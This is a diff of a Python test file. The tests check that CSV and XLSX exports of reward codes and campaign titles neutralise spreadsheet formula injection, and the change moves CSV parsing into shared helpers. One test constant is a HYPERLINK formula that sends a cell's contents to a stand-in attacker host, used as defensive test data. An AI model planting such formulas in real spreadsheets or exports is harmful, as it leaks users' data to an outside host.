@@ -3,7 +3,6 @@ out of every CSV and XLSX export as text (liebian/cells.py)."""
 
 from __future__ import annotations
 
-import csv
 import io
 
 import pytest
@@ -14,6 +13,7 @@ from liebian.cells import safe_cell
 from liebian.db.session import session_scope
 from liebian.rewards import service
 from liebian.web.app import create_app
+from shared_helpers import export_csv, export_records
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 
@@ -52,7 +52,7 @@ def test_reward_code_formula_is_text_in_payout_csv_and_xlsx(client):
         )  # fmt: skip
         service.transition(s, reward.id, "approved", idempotency_key="ap", actor="op")
     r = client.get("/api/v1/payouts/export", params={"format": "csv"})
-    (row,) = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    (row,) = export_records(r.content)
     assert row["reward_code"] == "'=1+1"
     x = client.get("/api/v1/payouts/export", params={"format": "xlsx"})
     ws = load_workbook(io.BytesIO(x.content)).active
@@ -73,8 +73,7 @@ def test_campaign_title_formula_is_text_in_console_exports(client):
         "collects": "phone", "consent_step": "on",
     }  # fmt: skip
     assert client.post("/campaigns/new", data=form).status_code == 204
-    text = client.get("/campaigns?export=campaigns&format=csv").content.decode("utf-8-sig")
-    (row,) = list(csv.reader(io.StringIO(text)))[1:]
+    (row,) = export_csv(client.get("/campaigns?export=campaigns&format=csv").content)[1:]
     assert row[1] == "'" + HYPERLINK
     x = client.get("/campaigns?export=campaigns&format=xlsx")
     ws = load_workbook(io.BytesIO(x.content)).active
